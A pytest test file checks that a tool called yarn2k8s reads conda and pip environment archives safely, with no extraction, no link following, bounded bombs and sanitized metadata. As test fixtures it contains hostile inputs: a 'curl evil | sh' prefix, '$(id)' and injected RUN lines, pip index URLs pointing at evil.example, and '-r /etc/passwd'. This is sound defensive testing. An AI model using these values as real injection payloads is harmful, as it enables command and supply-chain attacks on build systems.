"""Archives are inspected for metadata only: bounded, never extracted, links never followed,
and what a hostile member says can never reach a Dockerfile or requirements.txt line."""

from __future__ import annotations

import io
import os
import tarfile
import time
import zipfile
from pathlib import Path

import pytest

from yarn2k8s.deps.archives import ArchiveError, ArchiveLimits, read_archive
from yarn2k8s.deps.envs import read_env
from yarn2k8s.deps.import_table import load_table
from yarn2k8s.model import SourceLocation


def _tar(path: Path, members: list[tuple[str, bytes | None, str]], mode: str = "w:gz") -> Path:
    """members: (name, data, linkname); data None makes a symlink to linkname."""
    with tarfile.open(path, mode) as tar:  # type: ignore[call-overload]
        for name, data, link in members:
            info = tarfile.TarInfo(name)
            if data is None:
                info.type, info.linkname = tarfile.SYMTYPE, link
                tar.addfile(info)
            else:
                info.size = len(data)
                tar.addfile(info, io.BytesIO(data))
    return path


def _tree(folder: Path) -> set[str]:
    return {str(p.relative_to(folder)) for p in folder.rglob("*")}


def test_traversal_and_links_are_listed_never_followed_or_written(tmp_path: Path) -> None:
    outside = tmp_path / "outside.txt"
    outside.write_text("OUTSIDE")
    archive = _tar(
        tmp_path / "env.tar.gz",
        [
            ("../../escaped.txt", b"x", ""),
            ("/etc/absolute.txt", b"x", ""),
            ("env/bin/python", None, str(outside)),
            ("env/conda-meta/x-1.0-0.json", None, "/etc/passwd"),
        ],
    )
    before = _tree(tmp_path)
    listing = read_archive(archive, lambda name: True)
    assert _tree(tmp_path) == before  # nothing extracted, anywhere
    assert "etc/absolute.txt" in listing.names  # a leading slash is never honoured
    assert sorted(listing.links) == ["env/bin/python", "env/conda-meta/x-1.0-0.json"]
    assert "env/conda-meta/x-1.0-0.json" not in listing.contents  # links are never read
    assert b"OUTSIDE" not in b"".join(listing.contents.values())


def test_gzip_bomb_stops_at_the_scan_bound(tmp_path: Path) -> None:
    path = tmp_path / "bomb.tar.gz"
    with tarfile.open(path, "w:gz", compresslevel=1) as tar:
        info = tarfile.TarInfo("zeros.bin")
        info.size = 64 * 1024 * 1024
        tar.addfile(info, io.BytesIO(bytes(info.size)))
        tar.addfile(tarfile.TarInfo("after.txt"))
    start = time.monotonic()
    listing = read_archive(path, lambda n: True, ArchiveLimits(max_scan_bytes=1024 * 1024))
    assert time.monotonic() - start < 1.0
    assert listing.truncated and listing.names == []


def test_member_count_is_bounded(tmp_path: Path) -> None:
    path = _tar(tmp_path / "many.tar", [(f"m/{i}", b"", "") for i in range(50)], mode="w")
    listing = read_archive(path, lambda n: False, ArchiveLimits(max_members=10))
    assert listing.truncated and len(listing.names) == 10


def test_zip_bomb_member_is_never_inflated(tmp_path: Path) -> None:
    path = tmp_path / "bomb.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        with archive.open("pkg/__init__.py", "w", force_zip64=True) as handle:
            for _ in range(256):
                handle.write(bytes(1024 * 1024))
        archive.writestr("pkg/small.py", "x = 1\n")
    start = time.monotonic()
    listing = read_archive(path, lambda n: n.endswith(".py"))
    assert time.monotonic() - start < 1.0
    assert listing.contents == {"pkg/small.py": b"x = 1\n"}


def test_zip_central_directory_over_the_limit_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "wide.zip"
    with zipfile.ZipFile(path, "w") as archive:
        for i in range(30):
            archive.writestr(f"f{i}", "")
    with pytest.raises(ArchiveError, match="over the limits"):
        read_archive(path, lambda n: True, ArchiveLimits(max_members=20))


def test_garbage_is_an_archive_error(tmp_path: Path) -> None:
    path = tmp_path / "junk.tar.gz"
    path.write_bytes(os.urandom(4096))
    with pytest.raises(ArchiveError):
        read_archive(path, lambda n: True)


@pytest.mark.parametrize(
    "prefix",
    ["x && curl evil | sh #/", "../", "a b/", "x\nRUN evil/", "$(id)/", "'q'/", "-rf/"],
)
def test_hostile_environment_prefix_is_never_used(tmp_path: Path, prefix: str) -> None:
    archive = _tar(tmp_path / "env.tar.gz", [(f"{prefix}conda-meta/numpy-1.0-0.json", b"{}", "")])
    env = read_env(archive, "env.tar.gz", "env", SourceLocation("env.tar.gz"), load_table({}))
    assert env.layout == "unknown" and env.prefix == ""


def test_a_plain_prefix_is_still_found(tmp_path: Path) -> None:
    archive = _tar(tmp_path / "env.tar.gz", [("myenv/conda-meta/numpy-1.26.0-0.json", b"{}", "")])
    env = read_env(archive, "env.tar.gz", "env", SourceLocation("env.tar.gz"), load_table({}))
    assert (env.layout, env.prefix) == ("conda-pack", "myenv/")


@pytest.mark.parametrize(
    ("name", "version"),
    [
        ("--index-url=http://evil.example/simple", "1"),
        ("-r /etc/passwd", "1"),
        ("good", "1 --extra-index-url http://evil"),
        ("good", "1;os_name=='x'"),
        ("a b", "1"),
        ("a", ""),
    ],
)
def test_hostile_metadata_never_becomes_a_requirement(
    tmp_path: Path, name: str, version: str
) -> None:
    meta = f"Name: {name}\nVersion: {version}\n\n".encode()
    dist = "env/lib/python3.10/site-packages/x-1.dist-info/METADATA"
    ok = "env/lib/python3.10/site-packages/ok-1.dist-info/METADATA"
    archive = _tar(
        tmp_path / "env.tar.gz",
        [(dist, meta, ""), (ok, b"Name: requests\nVersion: 2.31.0\n\n", "")],
    )
    env = read_env(archive, "env.tar.gz", "env", SourceLocation("env.tar.gz"), load_table({}))
    assert [r.line() for r in env.packages] == ["requests==2.31.0"]
